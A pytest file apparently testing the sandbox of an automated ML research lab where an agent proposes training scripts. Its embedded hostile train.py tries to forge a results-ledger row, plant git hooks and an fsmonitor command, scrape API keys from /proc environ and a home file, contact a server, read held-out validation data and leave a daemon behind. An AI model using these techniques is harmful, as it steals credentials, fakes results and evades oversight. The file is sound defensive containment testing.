"""The experiment's sandbox, shown by attacks that fail: a train.py that writes to the ledger, the
lab's state and lock, git's hooks and config, the harness, the prepared cache and the venv, reads
other processes' environments and the user's home for a key, reaches the network, reads the validation split, and leaves
a daemon behind; files a
proposal leaves in ignored paths; and the loud line when runs are not sandboxed.
Run: uv run pytest tests/test_sandbox.py"""
import http.server
import json
import py_compile
import re
import site
import threading
import time
from pathlib import Path

import pytest

from autoresearch import ledger, sandbox, state, workspace
from autoresearch.agents.replay import ReplayAgent
from autoresearch.judge import Policy
from autoresearch.scheduler import Scheduler, init_run
from lab_helpers import FAKE_TRAIN, check_invariants, cli, git, make_repo, variant, write_replay
from test_lab import Quiet

needs_bwrap = pytest.mark.skipif(sandbox.mode() != sandbox.BWRAP, reason=f"no sandbox here: {sandbox.why_not()}")
SECRET = "sk-ant-sandbox-probe-7f3a"
HOME_FILE = Path.home() / ".autoresearch-sandbox-probe"  # a user's file with a key in it, as ~/.netrc is

# Each attack prints `ATTACK <name>: succeeded` or `ATTACK <name>: blocked (<error>)`, then train.py
# goes on to an honest evaluation.
ATTACKS = '''
import glob, json, os, site, socket, subprocess, time

def attack(name, action):
    try:
        action()
        print(f"ATTACK {name}: succeeded", flush=True)
    except Exception as e:
        print(f"ATTACK {name}: blocked ({type(e).__name__})", flush=True)

def append(path, text):
    with open(path, "a") as f:
        f.write(text)

def git_dir():
    return subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
                          capture_output=True, text=True, check=True).stdout.strip()

def hook():
    path = os.path.join(git_dir(), "hooks", "post-checkout")
    append(path, "#!/bin/sh\\necho hooked\\n")
    os.chmod(path, 0o755)

def fsmonitor():
    subprocess.run(["git", "config", "core.fsmonitor", "echo pwned"], check=True, capture_output=True)

def secret():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            data = open(path, "rb").read()
        except OSError:
            continue
        for item in data.split(b"\\0"):
            if item.startswith(b"ANTHROPIC_API_KEY="):
                print("found", item.decode(), flush=True)
                return
    raise LookupError("no key in any process's environment")

def network():
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"GET /leak HTTP/1.0\\r\\n\\r\\n")

def validation():
    data = open(os.path.join(os.environ["AUTORESEARCH_CACHE"], "data", "val.bin"), "rb").read(65536)
    if not any(data):
        raise PermissionError("the validation split reads as zeros")

def daemon():
    run = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # it waits for the run to end, then writes: only a daemon that outlived it can
            while time.sleep(0.05) is None:
                try:
                    os.kill(run, 0)
                except ProcessLookupError:
                    break
            for _ in range(100):  # into the compile cache, for the runs after it to find, for 20 s
                time.sleep(0.2)
                open(os.path.join(os.environ["TORCHINDUCTOR_CACHE_DIR"], "daemon-alive"), "w").write("x")
        os._exit(0)
    os.wait()
    subprocess.run(["true"])  # the parent goes on; the daemon waits
    return

attack("ledger", lambda: append("results.tsv", "forged\\t0.000001\\t0.0\\tkeep\\tforged\\n"))
attack("state", lambda: open(".lab/state.json", "r+").write("{}"))
attack("lock", lambda: os.unlink(".lab/lock"))
attack("hook", hook)
attack("fsmonitor", fsmonitor)
attack("harness", lambda: append("prepare.py", "\\n# tampered\\n"))
attack("harness-module", lambda: append("harness/machine.py", "\\n# tampered\\n"))
attack("home", lambda: print("found", open(HOME_FILE).read(), flush=True))
attack("ignored-file", lambda: (os.makedirs(".cache", exist_ok=True), append(".cache/x.py", "x = 1\\n")))
attack("cache", lambda: open(glob.glob(os.path.join(os.environ["AUTORESEARCH_CACHE"], "*"))[0], "r+b").write(b"0"))
attack("venv", lambda: append(os.path.join(site.getsitepackages()[0], "zz_sandbox_probe.pth"), "# probe\\n"))
attack("secret", secret)
attack("network", network)
attack("validation", validation)
print("GIT", subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True).stdout.strip())
daemon()  # it succeeds in starting; what shows is whether it outlives the run
print("DAEMON started", flush=True)
'''


class Recording(http.server.BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):
        Recording.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def repo(tmp_path, use_cache):
    return make_repo(tmp_path / "repo")


@pytest.fixture
def server():
    httpd = http.server.HTTPServer(("127.0.0.1", 0), Recording)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    Recording.hits = []
    yield httpd.server_address[1]
    httpd.shutdown()


def hostile(port: int) -> str:
    head, tail = FAKE_TRAIN.split("tok = Tokenizer.from_directory()", 1)
    constants = f"PORT = {port}\nHOME_FILE = {str(HOME_FILE)!r}\n"
    return head + constants + ATTACKS + "tok = Tokenizer.from_directory()" + tail


@needs_bwrap
def test_every_attack_from_inside_the_run_fails_and_the_next_run_scores_as_before(repo, tmp_path, use_cache, server):
    pth = Path(site.getsitepackages()[0]) / "zz_sandbox_probe.pth"
    HOME_FILE.write_text(SECRET)
    compile_cache = tmp_path / "compile"
    replay = write_replay(tmp_path / "r.jsonl", [
        {"description": "hostile", "train_py": hostile(server)},
        {"description": "honest again", "train_py": variant(WEIGHT=0.6)},
    ])
    assert cli(repo, use_cache, "init", "--tag", "s").returncode == 0
    try:
        out = cli(repo, use_cache, "run", "--tag", "s", "--agent", f"replay:{replay}", "--baseline-runs", "1",
                  ANTHROPIC_API_KEY=SECRET, TORCHINDUCTOR_CACHE_DIR=compile_cache)
        assert out.returncode == 0, out.stdout + out.stderr
        time.sleep(5)  # the daemon's time to write, had it outlived its run
        assert not pth.exists()
    finally:
        pth.unlink(missing_ok=True)  # had the attack worked, it must not stay in the venv
        HOME_FILE.unlink(missing_ok=True)
    workdir = repo / "runs" / "s"
    log = "".join(p.read_text() for p in (workdir / "logs").glob("0002-*.log"))  # the hostile run, the best's
    attacks = [line for line in log.splitlines() if line.startswith("ATTACK ")]
    assert len(attacks) == 14 and "DAEMON started" in log, log
    assert not [a for a in attacks if a.endswith("succeeded")], "\n".join(attacks)
    assert not [p for p in (*compile_cache.rglob("*"), *(workdir / ".lab").rglob("*")) if p.name == "daemon-alive"]
    assert "daemon-alive" not in "".join(p.read_text() for p in (workdir / "logs").glob("0003-*.log"))
    assert Recording.hits == []
    # the lab's files, git and the harness are as they were; the hostile run was judged on its own
    # honest evaluation (the baseline's model: no better), and the next experiment as any other
    rows = check_invariants(workdir)
    assert "forged" not in (workdir / "results.tsv").read_text() and all(r["sandbox"] == "bwrap" for r in rows)
    ended = {r["experiment"]: r for r in rows if r["status"] in ledger.VERDICTS}
    hostile_run = next(r for r in rows if r["experiment"] == "2" and r["role"] == "candidate")
    assert ended["2"]["status"] == "discard" and hostile_run["run_bpb"] == ended["1"]["run_bpb"]
    assert ended["3"]["status"] == "keep"
    assert (workdir / ".lab" / "lock").exists() and json.loads((workdir / ".lab" / "state.json").read_text())
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in git(repo, "config", "--list")
    assert not (workdir / ".cache").exists() and "tampered" not in (workdir / "prepare.py").read_text()
    assert "tampered" not in (workdir / "harness" / "machine.py").read_text()
    assert re.search(r"^GIT [0-9a-f]{7}", log, re.M), log  # git is readable (provenance), not writable
    everything = (workdir / "results.tsv").read_text() + out.stdout + out.stderr + "".join(
        p.read_text() for p in (workdir / "logs").glob("*.log"))
    assert SECRET not in everything


@needs_bwrap
def test_a_file_beside_the_repository_is_out_of_a_run_s_reach(use_cache):
    """A `.env` with a key at the repository's root (git-ignored, beside the runs) cannot be read from
    inside a run's sandbox, while the worktree, the venv and git are. The repository lies outside /tmp
    here (the sandbox's /tmp is empty anyway), where only the lab's hiding of it keeps the file away."""
    import shutil
    import subprocess
    import sys
    import tempfile
    from autoresearch import guard
    from autoresearch.executor import LocalExecutor
    base = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="autoresearch-test-"))
    try:
        repo = make_repo(base / "repo")
        (repo / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\n")
        shard = use_cache / "downloads" / "shard_06542.parquet"  # climbmix keeps its validation shard there
        shard.parent.mkdir(exist_ok=True)
        shard.write_text("validation text\n")
        assert cli(repo, use_cache, "init", "--tag", "t").returncode == 0
        workdir = repo / "runs" / "t"
        st = state.load(workdir)
        executor = LocalExecutor(workdir, use_cache, st["branch"], guard.protection(workdir, st), st["base_commit"])
        code = ("import subprocess, sys\n"
                "def read(path):\n"
                "    try:\n"
                "        return open(path).read()\n"
                "    except OSError as e:\n"
                "        return type(e).__name__\n"
                f"print(read({str(repo / '.env')!r}), read({str(shard)!r}), len(read({str(use_cache / 'manifest.json')!r})) > 100)\n"
                "print(len(read('train.py')) > 100, sys.prefix)\n"
                "print(subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], capture_output=True, text=True).stdout)\n")
        out = subprocess.run(sandbox.command(executor.jail, [sys.executable, "-c", code]), cwd=workdir,
                             capture_output=True, text=True, timeout=120)
        executor.close()
        lines = out.stdout.splitlines()
        assert out.returncode == 0 and lines[0] == "FileNotFoundError FileNotFoundError True", out.stdout + out.stderr
        assert lines[1] == f"True {sys.prefix}" and lines[2] == st["base_commit"][:7], out.stdout
    finally:
        shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(use_cache / "downloads", ignore_errors=True)


def test_files_left_in_ignored_paths_are_gone_before_train_py_runs(repo, tmp_path):
    """A proposal (an agent at work in the worktree) can leave files git ignores: a module in .cache/,
    a resource.pyc that would shadow the standard library's module, a tiktoken.pyc that would shadow
    what the Python started ahead imports. None reaches a run."""
    check = FAKE_TRAIN.replace("tok = Tokenizer.from_directory()", (
        "print('left behind:', sorted(p for p in ('.cache/x.py', 'resource.pyc') if os.path.exists(p)))\n"
        "import resource\n"
        "tok = Tokenizer.from_directory()"), 1)
    repo = make_repo(tmp_path / "clean", check)
    workdir = init_run(repo, "c")
    (workdir / ".cache").mkdir()
    (workdir / ".cache" / "x.py").write_text("x = 1\n")
    shadow = tmp_path / "resource.py"
    shadow.write_text("print('SHADOWED', flush=True)\n")
    for name in ("resource", "tiktoken"):  # train.py imports one, the Python started ahead the other
        py_compile.compile(str(shadow), cfile=str(workdir / f"{name}.pyc"),
                           invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    assert workspace.changed_paths(workdir) == []  # git sees nothing to refuse
    lab = Scheduler(workdir, Policy(baseline_runs=1), display=Quiet())
    lab.run(ReplayAgent(write_replay(tmp_path / "r.jsonl", [])))
    log = next((workdir / "logs").glob("0001-*.log")).read_text()
    assert "left behind: []" in log and "SHADOWED" not in log
    assert not (workdir / ".cache").exists() and not list(workdir.glob("*.pyc"))
    assert "started ahead" in log  # the prestarted Python ran it, and imported nothing from the worktree
    assert (workdir / "results.tsv").exists() and (workdir / ".lab" / "state.json").exists()


def test_unsandboxed_runs_say_so_loudly_and_every_row_records_it(repo, tmp_path, use_cache):
    assert cli(repo, use_cache, "init", "--tag", "u").returncode == 0
    replay = write_replay(tmp_path / "r.jsonl", [{"description": "tamper while running",
                                                  "train_py": variant(TOUCH_PREPARE=True)}])
    out = cli(repo, use_cache, "run", "--tag", "u", "--agent", f"replay:{replay}", "--baseline-runs", "1",
              AUTORESEARCH_SANDBOX="0")
    assert out.returncode == 0, out.stdout + out.stderr
    warnings = [line for line in out.stdout.splitlines() if "runs unsandboxed" in line]
    assert len(warnings) == 1 and warnings[0].startswith("WARNING: AUTORESEARCH_SANDBOX=0"), out.stdout
    rows = ledger.read_rows(repo / "runs" / "u" / "results.tsv")
    assert rows and all(r["sandbox"] == "none" for r in rows)
    # unsandboxed, the check after the run is what catches a harness touched while train.py ran
    assert rows[-1]["status"] == "rejected" and rows[-1]["reason"].startswith("while running: prepare.py")


@needs_bwrap
def test_a_new_worktree_s_first_run_reaches_an_evaluator_started_before_it(repo, use_cache):
    """A worker's worktree is new (no .lab/ in it) and its evaluator starts first, to name the device
    (as it does wherever torch's bytecode is compiled already): the run's hand-off must still be what
    that evaluator scores."""
    from autoresearch import guard, runner
    from autoresearch.executor import Job, LocalExecutor
    workdir = init_run(repo, "w")
    st = state.load(workdir)
    tree = workspace.worker_worktree(repo, "w", 1, st["base_commit"])
    assert not (tree / ".lab").exists()
    executor = LocalExecutor(tree, use_cache, None, guard.protection(workdir, st), st["base_commit"])
    try:
        executor.evaluator.ready(executor.timeout)  # the evaluator's sandbox, bound before any run
        assert executor.evaluator.info.get("device"), executor.evaluator.tail
        executor.prestart = False
        result = executor.run(Job(experiment=1, commit=st["base_commit"], seed=1, role="baseline",
                                  log=workdir / "logs" / "w1.log"))
    finally:
        executor.close()
    assert result.status == runner.OK and result.val_bpb is not None, result.reason
